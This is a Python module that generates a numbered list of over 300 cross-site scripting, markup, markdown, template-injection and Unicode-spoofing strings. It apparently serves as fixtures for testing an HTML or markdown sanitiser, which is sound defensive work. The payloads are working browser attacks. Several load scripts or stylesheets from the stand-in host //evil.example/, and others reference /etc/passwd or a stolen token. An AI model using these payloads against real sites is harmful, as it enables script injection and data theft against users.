"""Texts that would run, load or hide something on a page that trusts them, 300 and more of them.

Each calls `alert` with its own number, and most say `mark` with it: so a test can tell which of
them ran, and whether what was written is there to be read.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from typing import TypeVar

T = TypeVar("T")

RUN = "alert(0)"
ELSEWHERE = "//evil.example/"

TAGS = (
    *("<img src=x onerror=RUN>", "<svg onload=RUN>", "<script>RUN</script>"),
    *("<details open ontoggle=RUN>", "<video src=x onerror=RUN>", "<audio src=x onerror=RUN>"),
    *("<input autofocus onfocus=RUN>", "<marquee onstart=RUN>", "<iframe onload=RUN></iframe>"),
    *("<object data=x onerror=RUN></object>", "<style onload=RUN></style>"),
    *("<body onload=RUN>", "<a href=javascript:RUN>click</a>", "<b onmouseover=RUN>over</b>"),
)
MARKUP = (
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src=javascript:RUN></iframe>",
    "<form action=javascript:RUN><button autofocus>go</button></form>",
    "<form><button formaction=javascript:RUN>go</button></form>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN /></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:RUN><text y=20>click</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext>",
    "<math href=javascript:RUN>click</math>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=http:ELSEWHERE'>",
    "<base href=ELSEWHERE>",
    "<link rel=stylesheet href=ELSEWHERE>",
    "<link rel=prefetch href=ELSEWHERE>",
    "<img src=ELSEWHERE>",
    "<img srcset='ELSEWHERE 1x'>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src='data:text/html,<script>RUN</script>'>",
    "<script src=ELSEWHERE></script>",
    "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></p></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=RUN>'></textarea>",
    "</title><img src=x onerror=RUN>",
    "</textarea><img src=x onerror=RUN>",
    "</option></select><img src=x onerror=RUN>",
    "</script><script>RUN</script>",
    "</pre></code></div></article></section></main><img src=x onerror=RUN>",
    "</summary></details></body></html><script>RUN</script>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--",
    "--><img src=x onerror=RUN>",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><svg onload=RUN>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]><svg onload=RUN>",
    "<plaintext>",
    "<xmp><img src=x onerror=RUN></xmp>",
    "<img src=x onerror=RUN//",
    "<img src='x' x='>' onerror=RUN>",
    "<img src=`x` onerror=RUN>",
    "<x onclick=RUN tabindex=1 autofocus onfocus=RUN>custom</x>",
    "<x-y is=img src=x onerror=RUN>",
    "<img src=x onerror=\\u0061lert(0)>",
    "<img src=x onerror=&#97;lert(0)>",
    "<\x00img src=x onerror=RUN>",
    "<img src=x one\x00rror=RUN>",
    "<\u017fcript>RUN</\u017fcript>",
    "\uff1cimg src=x onerror=RUN\uff1e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "%3Cimg%20src=x%20onerror=RUN%3E",
)
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda tag: tag,
    lambda tag: tag.upper().replace("RUN", RUN),
    lambda tag: tag.replace(" ", "/"),
    lambda tag: tag.replace(" ", "\n\t\x0c"),
    lambda tag: tag.replace("=RUN", ' = "RUN"'),
    lambda tag: f'"{tag}',
    lambda tag: f"'>{tag}",
    lambda tag: f"x</b>{tag}<b>",
)
URLS = (
    *(
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "java\tscript:RUN",
        "java\nscript:RUN",
        "\x01javascript:RUN",
    ),
    *(" javascript:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "javascript%3aRUN"),
    *(
        "java\u200bscript:RUN",
        "\u2028javascript:RUN",
        "\uff4aavascript:RUN",
        "javascript://x%0aRUN",
    ),
    *("data:text/html,<script>RUN</script>", "data:image/svg+xml,<svg onload=RUN>", "vbscript:RUN"),
    *("file:///etc/passwd", "blob:null/x", "view-source:javascript:RUN", "about:blank#RUN"),
)
PLACES = (
    *("[link](URL)", "[link](<URL>)", "<URL>", "![picture](URL)", "[link][1]\n\n[1]: URL"),
    *("<a href='URL'>link</a>", "[![picture](URL)](URL)", "URL"),
)
MARKDOWN = (
    "| a | b |\n|---|---|\n| <img src=x onerror=RUN> | [x](javascript:RUN) |",
    '[x](http://example.org/"onmouseover=RUN")',
    "[x](http://example.org/ '\" onmouseover=RUN x=\"')",
    "[x](http://example.org/?a=1&b=<script>RUN</script>)",
    "[x](//evil.example/)",
    "[x](http:ELSEWHERE)",
    "![x](http:ELSEWHERE)",
    '<http://example.org/"onclick=RUN>',
    "[a<img src=x onerror=RUN>b](http://example.org/)",
    "```html onload=RUN\n<img src=x onerror=RUN>\n```",
    '```"><img src=x onerror=RUN>\ncode\n```',
    "~~~ <script>RUN</script>\n~~~",
    "    <img src=x onerror=RUN>",
    "`<img src=x onerror=RUN>`",
    "# <img src=x onerror=RUN> {onclick=RUN}",
    "> <script>RUN</script>",
    "- <svg onload=RUN>\n1. <svg onload=RUN>",
    "<div>\n\n*RUN* <img src=x onerror=RUN>\n\n</div>",
    "**<b onclick=RUN>**",
    "[x](javascript:RUN 'title')",
    "[x]( javascript:RUN )",
    "[x](\\javascript:RUN)",
    "[^1]\n\n[^1]: <img src=x onerror=RUN>",
    "[RUN]: javascript:RUN\n[RUN]",
    "\\<img src=x onerror=RUN>",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "www.example.org/<img/src=x/onerror=RUN>",
    "mailto:a@example.org?body=<script>RUN</script>",
    '[x](mailto:a@example.org?subject="onclick=RUN)',
    ">" * 60 + " deep",
    "[" * 80 + "x" + "](a)" * 80,
    "*_" * 100,
)
TEMPLATES = (
    *("{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{% RUN %}"),
    *(
        "{{7*7}}",
        "[[${RUN}]]",
        "@{RUN}",
        "{0} {title} %s %n %(x)s",
        "<div v-html=RUN ng-app>{{RUN}}",
    ),
    *("`${RUN}`", "{{#with RUN}}{{/with}}", "$(RUN)", "<tpl-if onclick=RUN>", "__import__('os')"),
)
STYLES = (
    *(
        "</style><style>*{background:url(ELSEWHERE)}</style>",
        "x{}*{display:none}",
        "url(ELSEWHERE)",
    ),
    *("color:red;background:url(ELSEWHERE)", "width:expression(RUN)", "@import 'ELSEWHERE';"),
    *(
        "-moz-binding:url(ELSEWHERE)",
        "var(--ground)",
        "\\65xpression(RUN)",
        "/* */ } body { opacity: 0",
    ),
    *(
        "row current target",
        "fold p0 failed reshaped",
        "visually-hidden",
        "hidden",
        "markdown text",
    ),
    *(
        "dialog-row error number",
        "position:fixed;inset:0;z-index:99",
        "role-user view-sent no-thinking",
    ),
)
BREAKOUTS = (
    *(
        '" onmouseover="RUN',
        "' onfocus='RUN' autofocus='",
        "` onclick=RUN x=`",
        '"><img src=x onerror=RUN>',
    ),
    *(
        "'><svg onload=RUN>",
        '" tabindex=1 onfocus=RUN autofocus x="',
        "x onclick=RUN",
        '"/><script>RUN</script>',
    ),
    *("');RUN//", '");RUN//', "\\');RUN//", '\\\\");RUN//', "*/RUN/*", "]]>RUN", "-->RUN<!--"),
    *(
        "\nRUN\n",
        "\u2028RUN",
        ";RUN;",
        "}RUN{",
        "]RUN[",
        "&RUN&",
        "#RUN",
        "?RUN",
        "=RUN",
        "../../RUN",
        "%00RUN",
    ),
    *("a&token=stolen&dialog=RUN", "#dialog=RUN&tab=graph", "\r\nX-Header: RUN", "data:RUN", "\\"),
)
SIGNS = (
    "\u202egpj.exe\u202c reversed",
    "\u2066RUN\u2069 \u2067x\u2069 \u2068y\u2069",
    "\u200e\u200f\u061c marks",
    "zero\u200bwidth\u2060joined\ufeff",
    "soft\u00adhyphen",
    "tags \U000e0041\U000e007f",
    "fillers \u3164\u115f\u1160\uffa0",
    "selectors \ufe00\U000e0100",
    "lone \ud800 and \udfff",
    "line\u2028paragraph\u2029next\x85",
    "NUL \x00 and \x01\x07\x08\x0b\x0c\x0e\x7f",
    "\x1b[31mred\x1b]52;c;eA==\x07\x9b2J",
    "\r\n\r carriage\rreturn",
    "private \ue000 \U000f0000 nonsense \ufffe\uffff\U0001fffe",
    "combining Z\u0310\u030a\u0323\u0334\u0321\u0363\u0351" + "\u0301" * 60,
    "\u05d0\u05d1\u05d2 RUN \u0627\u0644\u0639",
    "emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "w" * 3000,
    "\u0628" * 400,
    "\u3000 \u00a0 spaces \u2003",
)
KEYS = (
    *("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then"),
    *(
        "__defineGetter__",
        "toJSON",
        "length",
        "innerHTML",
        "outerHTML",
        "onclick",
        "href",
        "srcdoc",
    ),
    *("null", "undefined", "NaN", "true", "0", "-1", "1e999", "kept", "graph", ".", "..", "%2e%2e"),
)
"""Names that objects, elements and addresses have already."""


def _numbered(number: int, text: str) -> str:
    text = text.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
    return f"{text.replace(RUN, f'alert({number})')} mark{number}"


def _spread(texts: Sequence[str], others: Sequence[T]) -> Iterator[tuple[str, T]]:
    """Each text with every second of the others."""
    for number, text in enumerate(texts):
        yield from ((text, other) for other in others[number % 2 :: 2])


PAYLOADS = tuple(
    _numbered(number, text)
    for number, text in enumerate(
        (
            *(spell(tag) for tag, spell in _spread(TAGS, SPELLINGS)),
            *(MARKUP + MARKDOWN + TEMPLATES + STYLES + BREAKOUTS + SIGNS),
            *(place.replace("URL", url) for url, place in _spread(URLS, PLACES)),
        ),
        1,
    )
)
